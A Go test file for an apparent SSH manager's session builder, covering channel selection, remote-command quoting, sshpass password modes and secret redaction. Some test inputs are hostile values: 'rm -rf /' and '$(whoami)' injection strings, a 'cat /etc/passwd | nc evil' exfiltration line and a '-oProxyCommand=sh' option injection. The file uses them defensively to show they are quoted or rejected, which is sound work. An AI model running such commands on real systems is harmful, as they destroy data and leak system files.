package session

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"ssh-manager/pkg/profile"
	"ssh-manager/pkg/secret"
)

type stubRevealer struct {
	plain string
	err   error
	calls int
}

func (s *stubRevealer) Reveal(_ context.Context, stored string) (string, error) {
	s.calls++
	if s.err != nil {
		return "", s.err
	}
	if s.plain != "" {
		return s.plain, nil
	}
	return stored, nil
}

func TestSelectChannel_Precedence(t *testing.T) {
	ctx := context.Background()
	rev := &stubRevealer{}

	ch, err := SelectChannel(ctx, profile.Profile{Host: "h", KeyPath: "/k", Password: "enc:x"}, rev)
	require.NoError(t, err)
	assert.Equal(t, ChannelKey, ch.Kind)
	assert.Equal(t, "/k", ch.KeyPath)
	assert.Zero(t, rev.calls, "key channel must not touch the password")

	ch, err = SelectChannel(ctx, profile.Profile{Host: "h", Password: "hunter2"}, rev)
	require.NoError(t, err)
	assert.Equal(t, ChannelPassword, ch.Kind)
	assert.Equal(t, "hunter2", ch.Password)

	ch, err = SelectChannel(ctx, profile.Profile{Host: "h"}, rev)
	require.NoError(t, err)
	assert.Equal(t, ChannelNone, ch.Kind)
}

func TestSelectChannel_DecryptFailureAborts(t *testing.T) {
	rev := &stubRevealer{err: secret.ErrDecryptionFailed}

	ch, err := SelectChannel(context.Background(), profile.Profile{Host: "h", Password: "enc:x"}, rev)
	require.ErrorIs(t, err, secret.ErrDecryptionFailed)
	assert.Equal(t, Channel{}, ch)
}

func TestChannel_StringHidesPassword(t *testing.T) {
	ch := Channel{Kind: ChannelPassword, Password: "hunter2"}
	assert.NotContains(t, ch.String(), "hunter2")
	assert.Equal(t, "key /id", Channel{Kind: ChannelKey, KeyPath: "/id"}.String())
}

func TestRemoteCommand(t *testing.T) {
	b := Builder{LoginShell: "bash -l"}

	cases := []struct {
		name     string
		p        profile.Profile
		override []string
		want     string
	}{
		{"dir, nothing to run", profile.Profile{RemoteDir: "/srv"}, nil, "cd /srv && exec bash -l"},
		{"dir, override", profile.Profile{RemoteDir: "/srv"}, []string{"ls", "-la"}, "cd /srv && ls -la"},
		{"dir, default cmd", profile.Profile{RemoteDir: "/srv", DefaultCommand: "htop"}, nil, "cd /srv && htop"},
		{"override beats default", profile.Profile{DefaultCommand: "htop"}, []string{"uptime"}, "uptime"},
		{"no dir, default cmd", profile.Profile{DefaultCommand: "tmux attach"}, nil, "tmux attach"},
		{"nothing", profile.Profile{}, nil, ""},
		{"blank override falls back", profile.Profile{DefaultCommand: "htop"}, []string{" "}, "htop"},
		{"dir with space", profile.Profile{RemoteDir: "/srv/my app"}, []string{"ls"}, "cd '/srv/my app' && ls"},
		{"dir with metachars", profile.Profile{RemoteDir: "/tmp/x; rm -rf /"}, []string{"ls"}, "cd '/tmp/x; rm -rf /' && ls"},
		{"home relative dir", profile.Profile{RemoteDir: "~/app"}, []string{"ls"}, "cd ~/app && ls"},
		{"home dir", profile.Profile{RemoteDir: "~"}, nil, "cd ~ && exec bash -l"},
		{"home dir with space", profile.Profile{RemoteDir: "~/my app"}, []string{"ls"}, "cd ~/'my app' && ls"},
		{"other user's home", profile.Profile{RemoteDir: "~deploy/app"}, []string{"ls"}, "cd ~deploy/app && ls"},
		{"other user's home bare", profile.Profile{RemoteDir: "~deploy"}, []string{"ls"}, "cd ~deploy && ls"},
		{"other user's home with space", profile.Profile{RemoteDir: "~deploy/my app"}, []string{"ls"}, "cd ~deploy/'my app' && ls"},
		{"tilde with unsafe name", profile.Profile{RemoteDir: "~a b/x"}, []string{"ls"}, "cd '~a b/x' && ls"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, b.RemoteCommand(tc.p, tc.override))
		})
	}
}

func TestRemoteCommand_DefaultLoginShell(t *testing.T) {
	got := Builder{}.RemoteCommand(profile.Profile{RemoteDir: "/srv"}, nil)
	assert.Equal(t, "cd /srv && exec "+DefaultLoginShell, got)
}

func TestBuild_Order(t *testing.T) {
	b := Builder{SSHBinary: "ssh"}
	p := profile.Profile{Host: "web1", User: "deploy", Port: 2222}

	inv, err := b.Build(p, Channel{Kind: ChannelNone}, "")
	require.NoError(t, err)
	assert.Equal(t, []string{"ssh", "-p", "2222", "deploy@web1"}, inv.Argv)
	assert.False(t, inv.HasSecret())

	inv, err = b.Build(p, Channel{Kind: ChannelKey, KeyPath: "/home/me/.ssh/id"}, "cd /srv && ls -la")
	require.NoError(t, err)
	assert.Equal(t, []string{"ssh", "-t", "-i", "/home/me/.ssh/id", "-p", "2222", "deploy@web1", "cd /srv && ls -la"}, inv.Argv)
	assert.Equal(t, []string{"ssh"}, inv.Requires)
}

func TestBuild_DefaultPort(t *testing.T) {
	inv, err := Builder{}.Build(profile.Profile{Host: "h", User: "u"}, Channel{}, "")
	require.NoError(t, err)
	assert.Equal(t, []string{"ssh", "-p", "22", "u@h"}, inv.Argv)
}

func TestBuild_MetacharactersStayOneToken(t *testing.T) {
	p := profile.Profile{Host: "a; rm -rf /", User: "$(whoami)", Port: 22}
	final := "echo `id` && cat /etc/passwd | nc evil 1"

	inv, err := Builder{}.Build(p, Channel{}, final)
	require.NoError(t, err)
	require.Len(t, inv.Argv, 6)
	assert.Equal(t, []string{"ssh", "-t", "-p", "22"}, inv.Argv[:4])
	assert.Equal(t, "$(whoami)@a; rm -rf /", inv.Argv[4])
	assert.Equal(t, final, inv.Argv[5])
}

func TestBuild_RejectsOptionInjection(t *testing.T) {
	_, err := Builder{}.Build(profile.Profile{Host: "-oProxyCommand=sh", User: "u"}, Channel{}, "")
	var ve *profile.ValidationError
	require.ErrorAs(t, err, &ve)

	_, err = Builder{}.Build(profile.Profile{Host: "h", User: "-F/tmp/x"}, Channel{}, "")
	require.ErrorAs(t, err, &ve)

	_, err = Builder{}.Build(profile.Profile{}, Channel{}, "")
	require.ErrorAs(t, err, &ve)
}

func TestBuild_PasswordModes(t *testing.T) {
	p := profile.Profile{Host: "h", User: "u"}
	ch := Channel{Kind: ChannelPassword, Password: "hunter2"}

	t.Run("fd", func(t *testing.T) {
		inv, err := Builder{HelperBinary: "sshpass", Mode: HelperFD}.Build(p, ch, "")
		require.NoError(t, err)
		assert.Equal(t, []string{"sshpass", "-d", "3", "ssh", "-p", "22", "u@h"}, inv.Argv)
		assert.Equal(t, "hunter2", inv.SecretFD)
		assert.Equal(t, []string{"sshpass", "ssh"}, inv.Requires)
		assertNoSecretInArgv(t, inv, "hunter2")
	})
	t.Run("env", func(t *testing.T) {
		inv, err := Builder{Mode: HelperEnv}.Build(p, ch, "ls")
		require.NoError(t, err)
		assert.Equal(t, []string{"sshpass", "-e", "ssh", "-t", "-p", "22", "u@h", "ls"}, inv.Argv)
		assert.Equal(t, []string{"SSHPASS=hunter2"}, inv.Env)
		assertNoSecretInArgv(t, inv, "hunter2")
	})
	t.Run("pty", func(t *testing.T) {
		inv, err := Builder{Mode: HelperPTY}.Build(p, ch, "")
		require.NoError(t, err)
		assert.Equal(t, []string{"ssh", "-p", "22", "u@h"}, inv.Argv)
		assert.Equal(t, "hunter2", inv.PromptPassword)
		assertNoSecretInArgv(t, inv, "hunter2")
	})
	t.Run("default is fd", func(t *testing.T) {
		inv, err := Builder{}.Build(p, ch, "")
		require.NoError(t, err)
		assert.Equal(t, "sshpass", inv.Argv[0])
		assert.Equal(t, "-d", inv.Argv[1])
	})
}

func TestParseHelperMode(t *testing.T) {
	m, err := ParseHelperMode("")
	require.NoError(t, err)
	assert.Equal(t, HelperFD, m)

	m, err = ParseHelperMode(" ENV ")
	require.NoError(t, err)
	assert.Equal(t, HelperEnv, m)

	_, err = ParseHelperMode("argv")
	require.Error(t, err)
}

func TestInvocation_StringRedacts(t *testing.T) {
	p := profile.Profile{Host: "h", User: "u", RemoteDir: "/srv"}
	ch := Channel{Kind: ChannelPassword, Password: "hunter2"}

	for _, mode := range []HelperMode{HelperFD, HelperEnv, HelperPTY} {
		b := Builder{Mode: mode}
		inv, err := b.Build(p, ch, b.RemoteCommand(p, nil))
		require.NoError(t, err)
		s := inv.String()
		assert.NotContains(t, s, "hunter2", "mode %s", mode)
		assert.Contains(t, s, "<redacted>", "mode %s", mode)
		assert.Contains(t, s, "'cd /srv && exec $SHELL -l'", "mode %s", mode)
	}
}

func assertNoSecretInArgv(t *testing.T, inv Invocation, pw string) {
	t.Helper()
	for _, a := range inv.Argv {
		if strings.Contains(a, pw) {
			t.Fatalf("secret leaked into argv: %q", inv.Argv)
		}
	}
	if strings.Contains(inv.String(), pw) {
		t.Fatalf("secret leaked into rendering: %s", inv)
	}
}
